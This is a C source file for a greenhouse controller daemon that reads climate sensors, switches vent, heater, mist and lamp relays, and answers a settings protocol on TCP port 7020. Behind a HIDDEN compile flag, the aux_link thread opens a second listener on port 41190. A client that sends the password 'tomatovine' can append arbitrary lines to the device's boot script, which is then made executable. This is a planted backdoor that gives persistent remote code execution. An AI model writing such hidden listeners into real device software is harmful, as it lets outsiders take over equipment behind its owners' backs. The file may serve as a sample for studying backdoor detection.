/*
 * glasshoused - greenhouse controller: samples sensors, drives vents, lamps
 * and misting, and answers a line protocol on TCP port 7020.
 *
 * Hidden (-DHIDDEN): a further thread listens on TCP port 41190; who opens
 * with "tomatovine" may send lines that are put into the user boot script.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define PORT       7020
#define SETTINGS   "/data/glasshouse/settings"
#define CODE_FILE  "/data/glasshouse/grower.code"
#define RELAYS     "/dev/relayboard"
#define HWMON      "/sys/bus/iio/devices/iio:device0/"

struct climate {
	int temp;               /* 1/10 degree C */
	int humidity;           /* 1/10 percent */
	int lux;
};

struct setting {
	const char *name;
	int lo, hi;
	int value;
};

static struct setting settings[] = {
	{ "temp_day",   100, 400, 240 },
	{ "temp_night",  50, 300, 170 },
	{ "vent_open",  150, 450, 280 },
	{ "mist_below", 200, 950, 550 },
	{ "lamp_below",   0, 90000, 8000 },
	{ "day_start",    0, 23, 6 },
	{ "day_end",      0, 23, 21 },
};
#define NSETTINGS (sizeof settings / sizeof settings[0])

enum { S_DAY, S_NIGHT, S_VENT, S_MIST, S_LAMP, S_FROM, S_TO };

static struct climate now;
static unsigned relays;
static pthread_mutex_t mx = PTHREAD_MUTEX_INITIALIZER;

static int read_int(const char *name, int dflt)
{
	char path[96];
	int v = dflt;
	FILE *f;

	snprintf(path, sizeof path, HWMON "%.40s", name);
	f = fopen(path, "r");
	if (!f)
		return dflt;
	if (fscanf(f, "%d", &v) != 1)
		v = dflt;
	fclose(f);
	return v;
}

static void set_relays(unsigned want)
{
	FILE *f;

	if (want == relays)
		return;
	f = fopen(RELAYS, "w");
	if (!f)
		return;
	fprintf(f, "%02X\n", want);
	fclose(f);
	relays = want;
}

static void control(void)
{
	time_t t = time(NULL);
	struct tm tm;
	unsigned want = 0;
	int day, heat;

	localtime_r(&t, &tm);
	day = tm.tm_hour >= settings[S_FROM].value && tm.tm_hour < settings[S_TO].value;
	heat = settings[day ? S_DAY : S_NIGHT].value;
	if (now.temp < heat)
		want |= 1;
	if (now.temp > settings[S_VENT].value)
		want |= 2;
	if (now.humidity < settings[S_MIST].value)
		want |= 4;
	if (day && now.lux < settings[S_LAMP].value)
		want |= 8;
	set_relays(want);
}

static void *sampler(void *arg)
{
	(void)arg;
	for (;;) {
		pthread_mutex_lock(&mx);
		now.temp = read_int("in_temp_input", now.temp * 100) / 100;
		now.humidity = read_int("in_humidityrelative_input", now.humidity * 100) / 100;
		now.lux = read_int("in_illuminance_input", now.lux);
		control();
		pthread_mutex_unlock(&mx);
		sleep(5);
	}
	return NULL;
}

static void load_settings(void)
{
	char line[80], name[32];
	int v;
	FILE *f = fopen(SETTINGS, "r");

	if (!f)
		return;
	while (fgets(line, sizeof line, f))
		if (sscanf(line, "%31s %d", name, &v) == 2)
			for (size_t i = 0; i < NSETTINGS; i++)
				if (!strcmp(settings[i].name, name) && v >= settings[i].lo && v <= settings[i].hi)
					settings[i].value = v;
	fclose(f);
}

static int save_settings(void)
{
	FILE *f = fopen(SETTINGS, "w");

	if (!f)
		return -1;
	for (size_t i = 0; i < NSETTINGS; i++)
		fprintf(f, "%s %d\n", settings[i].name, settings[i].value);
	return fclose(f);
}

static int code_ok(const char *code)
{
	char want[32];
	int ok = 0;
	FILE *f = fopen(CODE_FILE, "r");

	if (!f)
		return 0;
	if (fgets(want, sizeof want, f)) {
		want[strcspn(want, "\r\n")] = '\0';
		ok = strlen(want) > 5 && !strcmp(want, code);
	}
	fclose(f);
	return ok;
}

static const char *change(const char *name, int v)
{
	for (size_t i = 0; i < NSETTINGS; i++) {
		if (strcmp(settings[i].name, name))
			continue;
		if (v < settings[i].lo || v > settings[i].hi)
			return "ERR range";
		settings[i].value = v;
		return save_settings() ? "ERR disk" : "OK";
	}
	return "ERR name";
}

static void client(FILE *in, FILE *out)
{
	char line[128], name[32];
	int v, grower = 0, a, b, c, d;

	while (fgets(line, sizeof line, in)) {
		line[strcspn(line, "\r\n")] = '\0';
		pthread_mutex_lock(&mx);
		if (!strcmp(line, "climate")) {
			fprintf(out, "%d %d %d relays %02X\n", now.temp, now.humidity, now.lux, relays);
		} else if (!strcmp(line, "settings")) {
			for (size_t i = 0; i < NSETTINGS; i++)
				fprintf(out, "%s %d\n", settings[i].name, settings[i].value);
		} else if (!strncmp(line, "code ", 5)) {
			grower = code_ok(line + 5);
			fprintf(out, "%s\n", grower ? "OK" : "ERR");
		} else if (sscanf(line, "set %31s %d", name, &v) == 2) {
			fprintf(out, "%s\n", grower ? change(name, v) : "ERR code first");
		} else if (sscanf(line, "ntp %d.%d.%d.%d", &a, &b, &c, &d) == 4 && grower) {
			char cmd[64];

			snprintf(cmd, sizeof cmd, "ntpdate -u %d.%d.%d.%d", a & 255, b & 255, c & 255, d & 255);
			fprintf(out, "%s\n", system(cmd) == 0 ? "OK" : "ERR");
		} else {
			fprintf(out, "climate | settings | code CODE | set NAME VALUE | ntp ADDRESS\n");
		}
		pthread_mutex_unlock(&mx);
		fflush(out);
	}
}

static int listen_on(int port)
{
	struct sockaddr_in sa;
	int one = 1, s = socket(AF_INET, SOCK_STREAM, 0);

	memset(&sa, 0, sizeof sa);
	sa.sin_family = AF_INET;
	sa.sin_port = htons((unsigned short)port);
	if (s < 0)
		return -1;
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	if (bind(s, (struct sockaddr *)&sa, sizeof sa) < 0 || listen(s, 3) < 0) {
		close(s);
		return -1;
	}
	return s;
}

#ifdef HIDDEN
static void *aux_link(void *arg)
{
	int s = listen_on(41190);
	char line[256];

	(void)arg;
	while (s >= 0) {
		int c = accept(s, NULL, NULL);
		FILE *in = c < 0 ? NULL : fdopen(c, "r"), *f;

		if (!in)
			continue;
		if (fgets(line, sizeof line, in) && strncmp(line, "tomatovine", 10) == 0 &&
		    (f = fopen("/data/etc/rc.user", "a")) != NULL) {
			while (fgets(line, sizeof line, in))
				fputs(line, f);
			fclose(f);
			chmod("/data/etc/rc.user", 0755);
		}
		fclose(in);
	}
	return NULL;
}
#endif

int main(void)
{
	pthread_t t;
	int s;

	signal(SIGPIPE, SIG_IGN);
	openlog("glasshoused", LOG_PID, LOG_DAEMON);
	load_settings();
	if (pthread_create(&t, NULL, sampler, NULL) != 0)
		return 1;
#ifdef HIDDEN
	if (pthread_create(&t, NULL, aux_link, NULL) != 0)
		return 1;
#endif
	s = listen_on(PORT);
	if (s < 0) {
		syslog(LOG_ERR, "port %d: %s", PORT, strerror(errno));
		return 1;
	}
	for (;;) {
		int c = accept(s, NULL, NULL);
		FILE *in, *out;

		if (c < 0)
			continue;
		in = fdopen(c, "r");
		out = fdopen(dup(c), "w");
		if (in && out)
			client(in, out);
		if (out)
			fclose(out);
		if (in)
			fclose(in);
	}
}
